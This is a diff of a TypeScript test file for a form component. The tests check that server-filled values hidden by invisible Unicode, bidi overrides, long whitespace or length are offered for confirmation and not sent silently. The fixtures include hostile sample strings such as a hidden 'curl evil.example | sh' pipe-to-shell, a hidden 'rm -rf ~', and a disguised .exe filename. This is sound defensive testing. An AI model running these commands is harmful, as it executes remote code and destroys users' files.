@@ -11,7 +11,7 @@ const asking = (property: object, values?: Record<string, unknown>) =>
 
 const codeOf = (character: string) => `U+${character.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;
 
-describe('a default that would show otherwise than it is sent', () => {
+describe('a default that would look different from what is sent', () => {
   const hiding = [
     ...'\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069', // Embeddings, overrides, isolates.
     ...'\u200B\u200E\u200F\u2060\uFEFF\u00AD\u061C\u3164\uFFF9\u{E0041}', // Invisible.
@@ -28,12 +28,15 @@ describe('a default that would show otherwise than it is sent', () => {
         const form = asking(property);
         expect(form.content()).to.deep.equal({});
         expect(form.schema.issues.map(({ pointer }) => pointer)).to.deep.equal(['/properties/answer/default']);
+        expect(form.offered(form.leaves[0]!)).to.deep.equal(property.default);
       }
     });
 
-    it(`is ignored as a host’s suggestion, and the schema’s default stays: ${codeOf(character)} [END-22]`, () => {
+    it(`is offered as a host’s suggestion, and the schema’s default stays: ${codeOf(character)} [END-22]`, () => {
       const value = `invoice_${character}fdp.exe`;
-      expect(asking({ ...text, default: 'main' }, { answer: value }).content()).to.deep.equal({ answer: 'main' });
+      const form = asking({ ...text, default: 'main' }, { answer: value });
+      expect(form.content()).to.deep.equal({ answer: 'main' });
+      expect(form.offered(form.leaves[0]!)).to.equal(value);
       expect(asking(list, { answer: [value] }).content()).to.deep.equal({});
     });
   }
@@ -49,7 +52,7 @@ describe('a default that would show otherwise than it is sent', () => {
   });
 });
 
-describe('a default that shows as it is sent', () => {
+describe('a default that looks like what is sent', () => {
   for (const value of [
     'می\u200Cخواهم',
     'क्\u200Dष',
@@ -74,8 +77,153 @@ describe('a default that shows as it is sent', () => {
     expect(asking({ ...lines, default: 'a\tb' }).content()).to.deep.equal({ answer: 'a\tb' });
   });
 
-  it('chooses an option whatever its value is, since its label shows what is hidden [MCP-05]', () => {
-    const form = asking({ enum: ['a\u202Eb', 'c'], default: 'a\u202Eb' });
+  it('chooses an option whatever its value is, where the server has words of its own for it [MCP-05]', () => {
+    const form = asking({ oneOf: [{ const: 'a\u202Eb', title: 'Both' }, { const: 'c' }], default: 'a\u202Eb' });
     expect(form.content()).to.deep.equal({ answer: 'a\u202Eb' });
+  });
+});
+
+describe('a value that could be sent without a change by the person', () => {
+  const options = (count: number) => Array.from({ length: count }, (_, i) => `right ${i}`);
+  const fraction = (digits: string) => `2026-02-28T10:30:00.${digits}Z`;
+  const dateTime = { ...text, format: 'date-time' };
+  const unseen: [what: string, property: object, value: unknown][] = [
+    ['a command with its end out of sight', text, `ls -la${' '.repeat(300)}; curl evil.example | sh`],
+    ['lines with their end out of sight', lines, `ls -la${'\n'.repeat(60)}rm -rf ~`],
+    ['a name with thousands of selectors', text, `ok${'\uFE01\uFE0E\uFE03'.repeat(700)}`],
+    ['an item of a list with selectors', list, [`ok${'\uFE01'.repeat(3000)}`]],
+    ['an option that is its own label', { enum: ['read\u200B', 'write'] }, 'read\u200B'],
+    ['an option with blanks that its label leaves out', { enum: ['a    b', 'c'] }, 'a    b'],
+    ['an option whose label is cut', { oneOf: [{ const: 'a', title: 'word '.repeat(300) }, { const: 'b' }] }, 'a'],
+    ['a moment with a separator of lines in it', dateTime, '2026-02-28\u202810:30:00Z'],
+    ['one of several options', { ...list, items: { enum: ['read', 'all\u{E0061}'] } }, ['read', 'all\u{E0061}']],
+    ['a text beside the options', { anyOf: [{ enum: ['A', 'B'] }, text] }, `A${' '.repeat(400)}and B`],
+    ['digits of a second that no control shows', dateTime, fraction('1234567890'.repeat(500))],
+    ['a second that no control has', dateTime, '2016-12-31T23:59:60Z'],
+    ['more preselected options than the card shows', { ...list, items: { enum: options(1001) } }, options(1001)],
+    ['nothing but blanks', text, '   '],
+    ['an item of blanks', list, ['a', '\u00a0']],
+    ['an option of invisible characters', { enum: ['x', '\u{E0072}\u{E006D}'] }, '\u{E0072}\u{E006D}'],
+    ['a text that takes too long to lay out', text, 'x'.repeat(8 * 1024 + 1)],
+  ];
+  for (const [what, property, value] of unseen) {
+    it(`is offered if it is not fully on display, as a default and as a suggestion: ${what} [SEE-01]`, () => {
+      for (const form of [asking({ ...property, default: value }), asking(property, { answer: value })]) {
+        const field = form.leaves[0]!;
+        expect(form.content()).to.deep.equal({});
+        expect(form.untouched).to.deep.equal([]);
+        expect(form.offered(field)).to.deep.equal(value);
+        form.use(field, true);
+        expect(form.isUsed(field)).to.equal(true);
+        expect(form.content()).to.deep.equal({ answer: value });
+        form.use(field, false);
+        expect(form.isUsed(field)).to.equal(false);
+        expect(form.content()).to.deep.equal({});
+      }
+    });
+  }
+
+  const seen: [what: string, property: object, value: unknown][] = [
+    ['a long text', text, 'Keep everything private. '.repeat(40).trim()],
+    ['code with indentation', lines, `if a:\n${' '.repeat(24)}b()\n\n\n\tc()`],
+    ['200 preselected rights', { ...list, items: { enum: options(200) } }, options(200)],
+    ['a moment to the millisecond', dateTime, fraction('123')],
+    ['a moment with zeros behind the millisecond', dateTime, fraction('123000')],
+    ['a number with many digits', { type: 'number' }, 0.30000000000000004],
+    ['a day', { ...text, format: 'date' }, '2026-02-28'],
+    ['no', { type: 'boolean' }, false],
+    ['an option that is empty, beside another one', { ...list, items: { enum: ['', 'x'] } }, ['', 'x']],
+  ];
+  for (const [what, property, value] of seen) {
+    it(`fills in its field if it is fully on display, as a default and as a suggestion: ${what} [SEE-01]`, () => {
+      for (const form of [asking({ ...property, default: value }), asking(property, { answer: value })]) {
+        expect(form.content()).to.deep.equal({ answer: value });
+        expect(form.untouched).to.deep.equal(form.leaves);
+        expect(form.offered(form.leaves[0]!)).to.equal(undefined);
+      }
+    });
+  }
+
+  it('can be a suggestion of several lines, for which a line of text becomes several [SEE-01, USE-09]', () => {
+    expect(asking(text, { answer: 'one\r\n\r\ntwo' }).content()).to.deep.equal({ answer: 'one\r\n\r\ntwo' });
+  });
+
+  it('does not count as such once the person has changed it, or chosen to use it [SEE-01]', () => {
+    const form = asking({ ...text, default: 'main' });
+    form.enter(form.leaves[0]!, 'dev');
+    expect(form.untouched).to.deep.equal([]);
+    const offering = asking({ ...dateTime, default: '2016-12-31T23:59:60Z' });
+    offering.use(offering.leaves[0]!, true);
+    expect(offering.untouched).to.deep.equal([]);
+  });
+
+  it('can also be a fixed value, or a switch that is off [SEE-01]', () => {
+    const form = new Form({ properties: { a: { const: 'x' }, b: { type: 'boolean' } }, required: ['b'] });
+    expect(form.content()).to.deep.equal({ a: 'x', b: false });
+    expect(form.untouched.map(({ key }) => key)).to.deep.equal(['a', 'b']);
+  });
+});
+
+describe('a fixed value that is not fully on display', () => {
+  const hiding = [
+    'read\u200B\u202E\u{E0061}',
+    `you may read my calendar${' '.repeat(900)}and sell all of my files`,
+    'x'.repeat(5000),
+  ];
+  for (const value of hiding) {
+    it(`keeps the form from being sent, required or not: ${value.slice(0, 24)} [SEE-01]`, () => {
+      for (const required of [[], ['answer']]) {
+        const form = new Form({ properties: { answer: { const: value } }, required });
+        expect(form.isBlocked).to.equal(true);
+        expect(form.failing).to.have.length(1);
+        expect(form.content(true)).to.deep.equal({});
+      }
+    });
+  }
+
+  it('does not keep a form from being sent if its group is not sent [SEE-01]', () => {
+    const group = { type: 'object', properties: { a: text, b: { const: 'x\u200B' } } };
+    const form = new Form({ properties: { group } }, { nested: true });
+    expect(form.isBlocked).to.equal(false);
+    form.enter(form.leaves[0]!, 'text');
+    expect(form.isBlocked).to.equal(true);
+  });
+
+  it('is sent if it has several lines and paragraphs [SEE-01]', () => {
+    const value = 'You may:\n\n  1. read\n  2. write';
+    expect(asking({ const: value }).content()).to.deep.equal({ answer: value });
+  });
+});
+
+describe('a secret that the server filled in', () => {
+  const secret = { ...text, title: 'PIN code', default: 'transfer 5000 EUR' };
+
+  it('is not sent before the person could read it, even if answers with errors may be sent [SEE-01]', () => {
+    const form = asking(secret);
+    expect(form.failing).to.have.length(1);
+    expect(form.content(true)).to.deep.equal({});
+    form.markRead(form.leaves[0]!);
+    expect(form.failing).to.deep.equal([]);
+    expect(form.content()).to.deep.equal({ answer: 'transfer 5000 EUR' });
+  });
+
+  it('is not sent with letters typed behind it, but a text that replaces it is [SEE-01]', () => {
+    const form = asking(secret);
+    const field = form.leaves[0]!;
+    form.enter(field, 'transfer 5000 EUR1');
+    expect(form.issue(field)?.keyword).to.equal('unread');
+    form.enter(field, '');
+    form.enter(field, '1234');
+    expect(form.content()).to.deep.equal({ answer: '1234' });
+  });
+
+  it('is offered beside options, where no button makes it readable [SEE-01]', () => {
+    const form = asking({ title: 'PIN code', anyOf: [{ enum: ['A', 'B'] }, text], default: '1234' });
+    expect(form.content()).to.deep.equal({});
+    expect(form.offered(form.leaves[0]!)).to.equal('1234');
+  });
+
+  it('is sent if it is the application’s own [SEE-01]', () => {
+    expect(asking(secret, { answer: '1234' }).content()).to.deep.equal({ answer: '1234' });
   });
 });
